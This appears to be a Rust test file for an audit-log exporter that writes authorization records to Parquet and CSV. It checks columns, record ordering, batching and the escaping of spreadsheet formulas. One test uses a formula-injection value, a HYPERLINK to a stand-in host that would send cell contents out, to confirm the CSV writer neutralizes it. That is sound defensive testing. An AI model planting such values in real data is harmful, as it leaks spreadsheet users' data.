//! Behaviours of the table: every kind of record has its row, nothing is lost on the way, and nothing runs in a spreadsheet.

use std::collections::BTreeMap;

use arrow_array::cast::AsArray as _;
use arrow_array::types::{TimestampMillisecondType, UInt64Type};
use arrow_array::{Array as _, RecordBatch};
use bytes::Bytes;
use cardea_proto::v1::{self, record::Entry};
use parquet::arrow::arrow_reader::ParquetRecordBatchReaderBuilder;
use proptest::{collection::vec, prelude::*};

use super::csv_file::unlike_formula;
use super::*;
use crate::audit::record::{timestamp, unix_ms};
use crate::audit::tests::records::record;

const DOCUMENT: &str = include_str!("../../../../docs/audit.md");

fn entity(r#type: &str, id: &str) -> Option<v1::EntityRef> {
    Some(v1::EntityRef { r#type: r#type.to_owned(), id: id.to_owned() })
}

fn of(sequence: u64, entry: Option<Entry>) -> v1::Record {
    v1::Record { sequence, time: Some(timestamp(1_767_323_045_070)), entry }
}

fn in_parquet(records: &[v1::Record]) -> Bytes {
    let mut file = ParquetFile::new(Vec::new()).unwrap();
    records.iter().for_each(|record| file.push(record).unwrap());
    file.finish().unwrap().into()
}

fn read(parquet: Bytes) -> Vec<RecordBatch> {
    let reader = ParquetRecordBatchReaderBuilder::try_new(parquet).unwrap();
    assert_eq!(**reader.schema(), *schema());
    reader.build().unwrap().map(Result::unwrap).collect()
}

fn in_csv(records: &[v1::Record]) -> String {
    let mut file = CsvFile::new(Vec::new()).unwrap();
    records.iter().for_each(|record| file.push(record).unwrap());
    String::from_utf8(file.finish().unwrap()).unwrap()
}

/// The cells of each line by the names of their columns, without empty ones.
fn cells(csv: &str) -> Vec<BTreeMap<String, String>> {
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let names = reader.headers().unwrap().clone();
    let told = |line: csv::StringRecord| {
        let cells = names.iter().map(str::to_owned).zip(line.iter().map(str::to_owned));
        cells.filter(|(_, cell)| !cell.is_empty()).collect()
    };
    reader.records().map(|line| told(line.unwrap())).collect()
}

/// What the row of a record says beside `sequence`, `time` and `record`, as `NAME=CELL`.
fn told(entry: Option<Entry>) -> Vec<String> {
    let record = of(7, entry);
    let mut row = cells(&in_csv(std::slice::from_ref(&record))).pop().unwrap();
    assert_eq!(row.remove("sequence").unwrap(), "7");
    assert_eq!(row.remove("time").unwrap(), "2026-01-02T03:04:05.070Z");
    assert_eq!(row.remove("record").unwrap(), serde_json::to_string(&record).unwrap());
    row.into_iter().map(|(name, cell)| format!("{name}={cell}")).collect()
}

fn decision() -> v1::DecisionRecord {
    v1::DecisionRecord {
        decision_id: "d1".to_owned(),
        attempt_id: "a-9".to_owned(),
        door: "hold".to_owned(),
        principal: entity("Acme::Agent", "a1"),
        action: entity("Action", "read"),
        resource: entity("Doc", "x"),
        session_id: "s".to_owned(),
        delegation: vec![entity("User", "a;\"b\"").unwrap(), entity("Agent", "c").unwrap()],
        decision: v1::Decision::StepUp.into(),
        reasons: vec![v1::Reason { code: v1::ReasonCode::StepUpRequired.into(), message: "m".to_owned() }],
        determining_policies: vec!["p;1".to_owned(), "p2".to_owned()],
        step_up: vec!["mfa".to_owned()],
        severity: "high".to_owned(),
        latency_ns: 800,
        basis: Some(v1::Basis { revision: 3, digest: "ab".to_owned(), state_version: 9, ages: vec![] }),
        hold: Some(v1::HoldRecord {
            enforcement_point: "edge".to_owned(),
            hold_id: 4,
            cause: Some(v1::HoldCause {
                kind: v1::hold_cause::Kind::Session.into(),
                ..v1::HoldCause::default()
            }),
            before: v1::Decision::Allow.into(),
        }),
        deviation: Some(Box::new(deviation())),
        observed: Some(Box::new(v1::ObservedRecord {
            task: "t".to_owned(),
            ..v1::ObservedRecord::default()
        })),
        ..v1::DecisionRecord::default()
    }
}

fn deviation() -> v1::DeviationRecord {
    v1::DeviationRecord {
        flags: vec!["new_target".to_owned()],
        assessment: "abuse".to_owned(),
        confidence: 80,
        ..v1::DeviationRecord::default()
    }
}

#[test]
fn a_decision_fills_its_columns_and_lists_that_are_empty_are_not_null() {
    assert_eq!(
        told(Some(Entry::Decision(decision()))),
        [
            "action=read",
            "assessment=abuse",
            "attempt_id=a-9",
            "bundle_digest=ab",
            "bundle_revision=3",
            "confidence=80",
            "decision=step_up",
            "decision_id=d1",
            r#"delegation=["User::\"a;\\\"b\\\"\"","Agent::\"c\""]"#,
            r#"determining_policies=["p;1","p2"]"#,
            r#"deviation=["new_target"]"#,
            "door=hold",
            "enforcement_point=edge",
            "hold_before=allow",
            "hold_cause=session",
            "kind=decision",
            "latency_ns=800",
            "obligations=[]",
            "policy_errors=[]",
            "principal_id=a1",
            "principal_type=Acme::Agent",
            r#"reasons=["step_up_required"]"#,
            "resource_id=x",
            "resource_type=Doc",
            "responses=[]",
            "session_id=s",
            "severity=high",
            "state_version=9",
            r#"step_up=["mfa"]"#,
            "task=t",
        ]
    );
}

#[test]
fn signals_sessions_tasks_and_reviews_say_about_whom_and_what_became_of_it() {
    let signal = v1::SignalRecord {
        subject: entity("User", "ann"),
        kind: "session_revoked".to_owned(),
        source: "idp".to_owned(),
        outcome: "applied".to_owned(),
        state_version: 5,
        reason: "stolen".to_owned(),
        session_id: "s".to_owned(),
        ..v1::SignalRecord::default()
    };
    assert_eq!(
        told(Some(Entry::Signal(signal))).join(" "),
        "change=applied kind=signal principal_id=ann principal_type=User reason=stolen session_id=s signal=session_revoked \
         source=idp state_version=5"
    );
    let session = v1::SessionRecord {
        session_id: "s".to_owned(),
        principal: entity("User", "ann"),
        change: "ended".to_owned(),
        state_version: 6,
        reason: "left".to_owned(),
    };
    assert_eq!(
        told(Some(Entry::Session(session))).join(" "),
        "change=ended kind=session principal_id=ann principal_type=User reason=left session_id=s state_version=6"
    );
    let task = v1::TaskRecord {
        task_id: "t".to_owned(),
        agent: entity("Agent", "a1"),
        change: "approved".to_owned(),
        asked_by: "uid:1000".to_owned(),
        state_version: 8,
        ..v1::TaskRecord::default()
    };
    assert_eq!(
        told(Some(Entry::Task(task))).join(" "),
        "change=approved kind=task principal_id=a1 principal_type=Agent source=uid:1000 state_version=8 task=t"
    );
    let review = v1::ReviewRecord {
        review_id: "r".to_owned(),
        change: "opened".to_owned(),
        principal: entity("Agent", "a1"),
        action: entity("Action", "pay"),
        resource: entity("Invoice", "i"),
        decision_id: "d1".to_owned(),
        state_version: 9,
        deviation: Some(deviation()),
        ..v1::ReviewRecord::default()
    };
    assert_eq!(
        told(Some(Entry::Review(review))).join(" "),
        "action=pay assessment=abuse change=opened confidence=80 decision_id=d1 delegation=[] deviation=[\"new_target\"] kind=review \
         principal_id=a1 principal_type=Agent resource_id=i resource_type=Invoice state_version=9"
    );
}

#[test]
fn bundles_gaps_shadows_streams_and_the_rest_have_their_rows_too() {
    let bundle = v1::BundleRecord {
        change: "activated".to_owned(),
        revision: 4,
        digest: "cd".to_owned(),
        asked_by: "uid:0".to_owned(),
        ..v1::BundleRecord::default()
    };
    let gap = crate::audit::record::gap(3, v1::gap_record::Cause::QueueFull);
    let shadow = v1::ShadowRecord {
        decision_id: "d1".to_owned(),
        door: "grpc".to_owned(),
        principal: entity("Agent", "a1"),
        action: entity("Action", "read"),
        resource: entity("Doc", "x"),
        session_id: "s".to_owned(),
        effect: v1::ShadowEffect::Widened.into(),
        in_force: Some(v1::ShadowAnswer {
            decision: v1::Decision::Deny.into(),
            ..v1::ShadowAnswer::default()
        }),
        ..v1::ShadowRecord::default()
    };
    let stream = v1::StreamRecord { change: "paused".to_owned(), ..v1::StreamRecord::default() };
    let withheld = v1::WithheldRecord { decision_id: "d1".to_owned(), door: "grpc".to_owned() };
    let told = |entry| told(entry).join(" ");
    assert_eq!(
        told(Some(Entry::Bundle(bundle))),
        "bundle_digest=cd bundle_revision=4 change=activated kind=bundle source=uid:0"
    );
    assert_eq!(told(Some(gap)), "change=queue_full kind=gap");
    // No `decision`: an answer is counted once, with its decision.
    assert_eq!(
        told(Some(Entry::Shadow(shadow))),
        "action=read change=widened decision_id=d1 door=grpc kind=shadow principal_id=a1 principal_type=Agent resource_id=x \
         resource_type=Doc session_id=s"
    );
    assert_eq!(told(Some(Entry::Stream(stream))), "change=paused kind=stream");
    assert_eq!(told(Some(Entry::Withheld(withheld))), "decision_id=d1 door=grpc kind=withheld");
    assert_eq!(told(Some(Entry::Retention(v1::RetentionRecord { kept_from: 9 }))), "kind=retention");
    assert_eq!(told(None), "kind=unknown");
}

#[test]
fn parquet_has_types_lists_and_nulls() {
    let gap = crate::audit::record::gap(3, v1::gap_record::Cause::QueueFull);
    let records = [of(1, Some(Entry::Decision(decision()))), of(2, Some(gap))];
    let batches = read(in_parquet(&records));
    let [batch] = &batches[..] else { panic!("{batches:?}") };
    let column = |name| batch.column_by_name(name).unwrap();
    assert_eq!(column("time").as_primitive::<TimestampMillisecondType>().value(0), 1_767_323_045_070);
    assert_eq!(column("latency_ns").as_primitive::<UInt64Type>().value(0), 800);
    let policies = column("determining_policies").as_list::<i32>();
    let first = policies.value(0);
    assert_eq!(first.as_string::<i32>().iter().flatten().collect::<Vec<_>>(), ["p;1", "p2"]);
    let errors = column("policy_errors").as_list::<i32>();
    assert_eq!(
        (errors.is_null(0), errors.value_length(0)),
        (false, 0),
        "a decision says that there were none"
    );
    assert!(policies.is_null(1) && column("decision").is_null(1), "a gap says nothing of policies");
}

#[test]
fn the_document_lists_the_columns_and_their_types() {
    let documented: Vec<(String, String)> = DOCUMENT
        .lines()
        .skip_while(|line| !line.starts_with("| column | type |"))
        .skip(2)
        .map_while(|line| line.strip_prefix("| `"))
        .map(|line| {
            let mut parts = line.split('|').map(str::trim);
            let mut next = || parts.next().unwrap().trim_end_matches('`').to_owned();
            (next(), next())
        })
        .collect();
    let columns = COLUMNS.iter().map(|column| {
        let of = match column.of {
            Of::Number(_) => "uint64",
            Of::Time(_) => "timestamp",
            Of::Text(_) => "text",
            Of::Texts(_) => "texts",
        };
        (column.name.to_owned(), of.to_owned())
    });
    assert_eq!(documented, columns.collect::<Vec<_>>());
}

/// What the table says of each record, in order: its number, its time, and itself.
type Said = Vec<(u64, i64, String)>;

fn said(records: &[v1::Record]) -> Said {
    let json = |record| serde_json::to_string(record).unwrap();
    let time = |record: &v1::Record| record.time.as_ref().map(unix_ms).unwrap();
    records.iter().map(|record| (record.sequence, time(record), json(record))).collect()
}

fn said_in_parquet(batches: &[RecordBatch]) -> Said {
    let rows = batches.iter().flat_map(|batch| {
        let sequences = batch.column_by_name("sequence").unwrap().as_primitive::<UInt64Type>();
        let times = batch.column_by_name("time").unwrap().as_primitive::<TimestampMillisecondType>();
        let records = batch.column_by_name("record").unwrap().as_string::<i32>();
        (0..batch.num_rows())
            .map(|row| (sequences.value(row), times.value(row), records.value(row).to_owned()))
    });
    rows.collect()
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    #[test]
    fn there_is_a_row_for_each_record_in_order_with_the_record_whole(records in vec(record(), 0..20)) {
        prop_assert_eq!(said_in_parquet(&read(in_parquet(&records))), said(&records));
        let rows = cells(&in_csv(&records));
        prop_assert_eq!(rows.len(), records.len());
        for (row, record) in rows.iter().zip(&records) {
            prop_assert_eq!(row["sequence"].parse(), Ok(record.sequence));
            prop_assert_eq!(serde_json::from_str::<v1::Record>(&row["record"]).unwrap(), record.clone());
            if let Some(Entry::Decision(decision)) = &record.entry {
                let policies: Vec<String> = serde_json::from_str(&row["determining_policies"]).unwrap();
                prop_assert_eq!(&policies, &decision.determining_policies);
                let door = row.get("door").map(String::as_str).unwrap_or_default();
                prop_assert_eq!(door.strip_prefix('\'').unwrap_or(door), decision.door.as_str());
            }
        }
    }

    #[test]
    fn a_cell_never_begins_as_a_formula_and_can_be_undone(text in "[ \t\r\n\u{200b}\u{feff}]{0,2}[=+@'＝-]{0,2}\\PC{0,4}") {
        let cell = unlike_formula(&text);
        let seen = cell.trim_start_matches(|c: char| c.is_whitespace() || ['\u{200b}', '\u{feff}'].contains(&c));
        prop_assert!(!seen.starts_with(['=', '+', '-', '@']), "{cell:?}");
        prop_assert_eq!(cell.strip_prefix('\'').unwrap_or(&cell), text.as_str());
    }
}

#[test]
fn a_principal_named_as_a_formula_is_a_text_in_csv_and_itself_in_parquet() {
    let name = "=HYPERLINK(\"https://x.example/?\"&A1)";
    let session = v1::SessionRecord { principal: entity("User", name), ..v1::SessionRecord::default() };
    let records = [of(1, Some(Entry::Session(session)))];
    assert_eq!(cells(&in_csv(&records))[0]["principal_id"], format!("'{name}"));
    let batches = read(in_parquet(&records));
    assert_eq!(batches[0].column_by_name("principal_id").unwrap().as_string::<i32>().value(0), name);
}

#[test]
fn a_batch_is_full_by_rows_or_by_bytes() {
    let small = of(1, None);
    let mut batch = Batch::new();
    for _ in 0..BATCH_ROWS_MAX {
        assert!(!batch.is_full());
        batch.push(&small).unwrap();
    }
    assert!(batch.is_full());
    assert_eq!(batch.take().unwrap().num_rows(), BATCH_ROWS_MAX);
    assert!(!batch.is_full());
    let large =
        of(1, Some(Entry::Session(v1::SessionRecord { reason: "x".repeat(1 << 20), ..Default::default() })));
    for _ in 0..8 {
        assert!(!batch.is_full());
        batch.push(&large).unwrap();
    }
    assert!(batch.is_full());
}

#[test]
fn row_groups_are_let_go_of_as_the_file_grows() {
    let noise = || (0..45_000).map(|_| fastrand::alphanumeric()).collect::<String>();
    let records: Vec<v1::Record> = (1..=1_200)
        .map(|sequence| {
            let session = v1::SessionRecord { session_id: noise(), ..v1::SessionRecord::default() };
            of(sequence, Some(Entry::Session(session)))
        })
        .collect();
    let parquet = in_parquet(&records);
    let reader = ParquetRecordBatchReaderBuilder::try_new(parquet.clone()).unwrap();
    let groups = reader.metadata().row_groups();
    assert!(groups.len() > 1, "{} bytes in one row group", parquet.len());
    for group in groups {
        let bytes = usize::try_from(group.compressed_size()).unwrap();
        assert!(bytes <= ROW_GROUP_BYTES_MAX + 2 * BATCH_BYTES_MAX, "{bytes} bytes in a row group");
    }
    let sequences = read(parquet).iter().map(RecordBatch::num_rows).sum::<usize>();
    assert_eq!(sequences, records.len());
}

#[test]
fn what_was_not_finished_cannot_be_read_as_parquet() {
    let whole = in_parquet(&[of(1, None)]);
    for end in 0..whole.len() {
        assert!(ParquetRecordBatchReaderBuilder::try_new(whole.slice(..end)).is_err(), "{end} bytes");
    }
    assert!(ParquetRecordBatchReaderBuilder::try_new(whole).is_ok());
}
